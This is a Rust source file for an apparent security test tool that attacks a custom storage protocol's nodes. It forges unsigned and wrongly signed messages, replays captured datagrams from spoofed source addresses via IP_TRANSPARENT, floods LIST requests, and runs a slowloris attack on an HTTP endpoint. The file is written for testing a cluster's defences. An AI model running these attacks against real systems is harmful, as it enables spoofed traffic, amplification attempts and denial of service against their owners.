// SPDX-License-Identifier: GPL-2.0
//! A hostile host on the storage network, for the VM's attack scenario
//! (it targets only the test cluster's namespaces). It holds no cluster
//! key. Every subcommand prints one JSON object: datagrams and bytes sent,
//! and the datagrams and bytes that came back to it.

use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

use anyhow::{bail, Context, Result};
use clap::{Parser, Subcommand};
use nfsp_proto::auth::{Key, Keys};
use nfsp_proto::wire::{
    self, Ack, Body, Chain, ChainMember, Commit, Hop, IodStats, List, ListRequest, Message,
    MsgType, Read, ReadReply, ReplySpec, RequestId, Status, Truncate, Unlink, Write,
};
use nfsp_proto::FileKey;

#[derive(Parser)]
#[command(about = "Send hostile iod traffic (tests only)")]
struct Cli {
    #[command(subcommand)]
    cmd: Cmd,
}

#[derive(Subcommand)]
enum Cmd {
    /// Every message type, unsigned and signed with a key we made up
    /// (with a random key id and with the cluster's id, seen on the wire).
    Forge {
        /// Iods to attack (IP:PORT).
        #[arg(long, required = true)]
        target: Vec<SocketAddr>,
        /// The cluster's key id (hex), as read from captured traffic.
        #[arg(long)]
        key_id: Option<String>,
        /// A file key to aim at (export:inode:seed, hex).
        #[arg(long, value_parser = parse_file_key)]
        file: Vec<FileKey>,
        /// Rounds over all message types.
        #[arg(long, default_value_t = 20)]
        rounds: u32,
    },
    /// Send captured datagrams again: lines `DST_IP DST_PORT HEX_PAYLOAD
    /// [SRC_IP SRC_PORT]` (tshark -T fields -e ip.dst -e udp.dstport -e
    /// udp.payload -e ip.src -e udp.srcport).
    Replay {
        /// The capture, as text.
        #[arg(long)]
        capture: std::path::PathBuf,
        /// Send from this (forged) source address (IP_TRANSPARENT).
        #[arg(long, conflicts_with = "same_source")]
        source: Option<IpAddr>,
        /// Send each datagram from the very address and port it was
        /// captured from (forged, IP_TRANSPARENT): a bit-identical replay.
        #[arg(long)]
        same_source: bool,
        /// Times each datagram is sent.
        #[arg(long, default_value_t = 2)]
        times: u32,
    },
    /// LIST requests (unsigned) at a fixed rate.
    ListFlood {
        /// Iods to flood.
        #[arg(long, required = true)]
        target: Vec<SocketAddr>,
        /// Datagrams per second (per target).
        #[arg(long, default_value_t = 500)]
        rate: u32,
        /// Duration in seconds.
        #[arg(long, default_value_t = 10)]
        secs: u64,
    },
    /// Slow clients on an HTTP endpoint: one idle connection and one that
    /// sends a byte every second, for SECS seconds.
    Slowloris {
        /// host:port of the endpoint.
        #[arg(long)]
        target: SocketAddr,
        /// Duration in seconds.
        #[arg(long, default_value_t = 10)]
        secs: u64,
    },
}

fn parse_file_key(s: &str) -> Result<FileKey, String> {
    let p: Vec<&str> = s.split(':').collect();
    let h = |i: usize| {
        u64::from_str_radix(p.get(i).copied().unwrap_or(""), 16).map_err(|e| e.to_string())
    };
    Ok(FileKey::new(h(0)?, h(1)?, h(2)?))
}

#[derive(Default)]
struct Tally {
    sent: u64,
    sent_bytes: u64,
    received: u64,
    received_bytes: u64,
}

impl Tally {
    fn send(&mut self, sock: &UdpSocket, data: &[u8], to: SocketAddr) {
        if sock.send_to(data, to).is_ok() {
            self.sent += 1;
            self.sent_bytes += data.len() as u64;
        }
    }

    /// Counts whatever comes back within `wait`.
    fn drain(&mut self, sock: &UdpSocket, wait: Duration) -> Result<()> {
        let mut buf = vec![0u8; 65536];
        let end = Instant::now() + wait;
        loop {
            let left = end.saturating_duration_since(Instant::now());
            if left.is_zero() {
                return Ok(());
            }
            sock.set_read_timeout(Some(left))?;
            match sock.recv_from(&mut buf) {
                Ok((n, _)) => {
                    self.received += 1;
                    self.received_bytes += n as u64;
                }
                Err(e)
                    if matches!(
                        e.kind(),
                        std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                    ) =>
                {
                    return Ok(())
                }
                Err(_) => {}
            }
        }
    }

    fn print(&self, what: &str) {
        let j = serde_json::json!({
            "attack": what,
            "sent": self.sent,
            "sent_bytes": self.sent_bytes,
            "received": self.received,
            "received_bytes": self.received_bytes,
        });
        println!("{j}");
    }
}

/// One message of every type aimed at `target`, answers to `me`.
fn every_type<'a>(
    target: SocketAddr,
    me: SocketAddr,
    key: FileKey,
    data: &'a [u8],
    hops: &'a [Hop],
    members: &'a [ChainMember],
    keys: &'a [FileKey],
) -> Vec<Body<'a>> {
    let chain = Chain {
        origin: me,
        members: List::Items(members),
    };
    vec![
        // a relay READ answered to us: amplification if obeyed
        Body::Read(Read {
            key,
            local_offset: 0,
            len: 60 * 1024,
            routes: List::Items(&[]),
            reply: ReplySpec::Relay { origin: me },
            gathered: &[],
        }),
        // a direct READ addressed to the iod itself, from a spoofed source
        Body::Read(Read {
            key,
            local_offset: 0,
            len: 4096,
            routes: List::Items(hops),
            reply: ReplySpec::Direct {
                origin: me,
                client: target,
                source: SocketAddr::new(target.ip(), 53),
                header: b"loop",
                pad: true,
            },
            gathered: &[],
        }),
        Body::Write(Write {
            key,
            local_offset: 0,
            chain,
            data,
        }),
        Body::Commit(Commit { key, chain }),
        Body::Truncate(Truncate {
            key,
            new_len: 1 << 62,
            extend_only: false,
            layout_epoch: 0,
            chain,
        }),
        Body::Truncate(Truncate {
            key,
            new_len: 0,
            extend_only: false,
            layout_epoch: 0,
            chain,
        }),
        Body::Unlink(Unlink {
            keys: List::Items(keys),
        }),
        Body::Ping,
        Body::List(ListRequest {
            after: None,
            max: 1024,
        }),
        Body::Ack(Ack {
            op: MsgType::Write,
            status: Status::Ok,
            value: 1,
        }),
        Body::ReadReply(ReadReply {
            status: Status::Ok,
            data,
        }),
        Body::Pong(IodStats::default()),
    ]
}

fn bound_socket(source: Option<IpAddr>) -> Result<UdpSocket> {
    match source {
        None => UdpSocket::bind("0.0.0.0:0").context("bind"),
        Some(ip) => transparent_socket(SocketAddr::new(ip, 0)),
    }
}

/// A UDP socket bound to `at`, an address this host need not have.
fn transparent_socket(at: SocketAddr) -> Result<UdpSocket> {
    let ip = at.ip();
    // A transparent socket may bind an address this host does not have.
    let fd = nix::sys::socket::socket(
        nix::sys::socket::AddressFamily::Inet,
        nix::sys::socket::SockType::Datagram,
        nix::sys::socket::SockFlag::empty(),
        None,
    )
    .context("socket")?;
    nix::sys::socket::setsockopt(&fd, nix::sys::socket::sockopt::IpTransparent, &true)
        .context("IP_TRANSPARENT (needs CAP_NET_ADMIN)")?;
    let addr = nix::sys::socket::SockaddrIn::from(std::net::SocketAddrV4::new(
        match ip {
            IpAddr::V4(v4) => v4,
            IpAddr::V6(_) => bail!("IPv4 only"),
        },
        at.port(),
    ));
    nix::sys::socket::bind(fd.as_raw_fd(), &addr).context("bind the forged source")?;
    Ok(UdpSocket::from(fd))
}

fn hex_decode(s: &str) -> Option<Vec<u8>> {
    let s: String = s.chars().filter(|c| *c != ':').collect();
    (0..s.len() / 2)
        .map(|i| u8::from_str_radix(s.get(2 * i..2 * i + 2)?, 16).ok())
        .collect()
}

fn main() -> Result<()> {
    let cli = Cli::parse();
    match cli.cmd {
        Cmd::Forge {
            target,
            key_id,
            file,
            rounds,
        } => {
            let sock = UdpSocket::bind("0.0.0.0:0")?;
            let mut t = Tally::default();
            let cluster_id = match key_id {
                Some(h) => Some(u32::from_str_radix(&h, 16).context("key id")?),
                None => None,
            };
            let made_up = |id: u32| -> Result<Keys> {
                let mut k = [0u8; 32];
                for (i, b) in k.iter_mut().enumerate() {
                    *b = (i as u8).wrapping_mul(37).wrapping_add(id as u8) | 1;
                }
                Ok(Keys::new(Key::new(id.max(1), k)?, None)?)
            };
            let mut key_sets = vec![Keys::insecure(), made_up(0x5eed_0001)?];
            if let Some(id) = cluster_id {
                key_sets.push(made_up(id)?);
            }
            let files = if file.is_empty() {
                vec![FileKey::new(1, 2, 3)]
            } else {
                file
            };
            let data = vec![0xa5u8; 4096];
            let mut buf = vec![0u8; wire::MAX_DATAGRAM];
            let mut seq = 1u64;
            for _ in 0..rounds {
                for &to in &target {
                    let me = SocketAddr::new(local_ip_towards(to)?, sock.local_addr()?.port());
                    let hops = [Hop {
                        addr: to,
                        local_offset: 0,
                        len: 4096,
                        instance: 0,
                    }];
                    let members = [ChainMember {
                        addr: to,
                        instance: 0,
                    }];
                    for fk in &files {
                        let ukeys = [*fk];
                        for body in every_type(to, me, *fk, &data, &hops, &members, &ukeys) {
                            for keys in &key_sets {
                                seq += 1;
                                // Every instance guess a blind attacker can make.
                                for instance in [0u64, seq] {
                                    let m = Message::new(
                                        RequestId { epoch: 0xbad, seq },
                                        instance,
                                        body,
                                    );
                                    let n = m.seal(keys, &mut buf)?;
                                    t.send(&sock, &buf[..n], to);
                                }
                            }
                        }
                    }
                }
                t.drain(&sock, Duration::from_millis(20))?;
            }
            t.drain(&sock, Duration::from_secs(1))?;
            t.print("forge");
        }
        Cmd::Replay {
            capture,
            source,
            same_source,
            times,
        } => {
            let text = std::fs::read_to_string(&capture)
                .with_context(|| format!("{}", capture.display()))?;
            let mut t = Tally::default();
            let mut dgrams = Vec::new();
            for line in text.lines() {
                let mut w = line.split_whitespace();
                let (Some(ip), Some(port), Some(hex)) = (w.next(), w.next(), w.next()) else {
                    continue;
                };
                let (Ok(ip), Ok(port)) = (ip.parse::<IpAddr>(), port.parse::<u16>()) else {
                    continue;
                };
                let from = match (
                    w.next().map(str::parse::<IpAddr>),
                    w.next().map(str::parse::<u16>),
                ) {
                    (Some(Ok(i)), Some(Ok(p))) => Some(SocketAddr::new(i, p)),
                    _ => None,
                };
                if let Some(p) = hex_decode(hex) {
                    dgrams.push((SocketAddr::new(ip, port), p, from));
                }
            }
            if dgrams.is_empty() {
                bail!("no datagram in {}", capture.display());
            }
            // The forged sources are bound before the socket that collects
            // answers: its ephemeral port must not take one of theirs.
            let mut forged: std::collections::HashMap<SocketAddr, UdpSocket> = Default::default();
            let mut in_use = std::collections::HashSet::new();
            for f in dgrams.iter().filter_map(|d| d.2).filter(|_| same_source) {
                if forged.contains_key(&f) || in_use.contains(&f) {
                    continue;
                }
                match transparent_socket(f) {
                    Ok(s) => {
                        forged.insert(f, s);
                    }
                    // A socket of this host holds that port (a wildcard
                    // bind): its datagrams go from the collecting socket.
                    Err(e)
                        if e.root_cause().downcast_ref::<nix::Error>()
                            == Some(&nix::Error::EADDRINUSE) =>
                    {
                        eprintln!("source {f} is in use on this host: sent from another port");
                        in_use.insert(f);
                    }
                    Err(e) => return Err(e).with_context(|| format!("forge the source {f}")),
                }
            }
            let sock = bound_socket(source)?;
            for _ in 0..times {
                for (to, p, from) in &dgrams {
                    match from.filter(|_| same_source) {
                        Some(f) => t.send(forged.get(&f).unwrap_or(&sock), p, *to),
                        None => t.send(&sock, p, *to),
                    }
                }
                t.drain(&sock, Duration::from_millis(200))?;
            }
            t.drain(&sock, Duration::from_secs(1))?;
            t.print(if same_source {
                "replay-same-source"
            } else if source.is_some() {
                "replay-forged-source"
            } else {
                "replay"
            });
        }
        Cmd::ListFlood { target, rate, secs } => {
            let sock = UdpSocket::bind("0.0.0.0:0")?;
            sock.set_nonblocking(true)?;
            let mut t = Tally::default();
            let mut buf = vec![0u8; 512];
            let start = Instant::now();
            let mut seq = 1u64;
            let period = Duration::from_secs_f64(1.0 / f64::from(rate.max(1)));
            let mut next = Instant::now();
            let mut rbuf = vec![0u8; 65536];
            while start.elapsed() < Duration::from_secs(secs) {
                for &to in &target {
                    seq += 1;
                    let m = Message::new(
                        RequestId {
                            epoch: 0xf100d,
                            seq,
                        },
                        0,
                        Body::List(ListRequest {
                            after: None,
                            max: 1024,
                        }),
                    );
                    let n = m.seal(&Keys::insecure(), &mut buf)?;
                    t.send(&sock, &buf[..n], to);
                }
                while let Ok((n, _)) = sock.recv_from(&mut rbuf) {
                    t.received += 1;
                    t.received_bytes += n as u64;
                }
                next += period;
                if let Some(d) = next.checked_duration_since(Instant::now()) {
                    std::thread::sleep(d);
                }
            }
            sock.set_nonblocking(false)?;
            t.drain(&sock, Duration::from_millis(500))?;
            t.print("list-flood");
        }
        Cmd::Slowloris { target, secs } => {
            use std::io::Write as _;
            let idle = std::net::TcpStream::connect(target).context("connect")?;
            let mut slow = std::net::TcpStream::connect(target).context("connect")?;
            let start = Instant::now();
            let mut sent = 0u64;
            let mut cut = false;
            while start.elapsed() < Duration::from_secs(secs) {
                if slow.write_all(b"G").is_err() {
                    cut = true;
                    break;
                }
                sent += 1;
                std::thread::sleep(Duration::from_secs(1));
            }
            drop(idle);
            let j = serde_json::json!({
                "attack": "slowloris",
                "bytes_sent": sent,
                "cut_by_server": cut,
                "seconds": start.elapsed().as_secs_f64(),
            });
            println!("{j}");
        }
    }
    Ok(())
}

/// Our address on the route to `to`.
fn local_ip_towards(to: SocketAddr) -> Result<IpAddr> {
    let probe = UdpSocket::bind("0.0.0.0:0")?;
    probe.connect(to)?;
    Ok(probe.local_addr()?.ip())
}
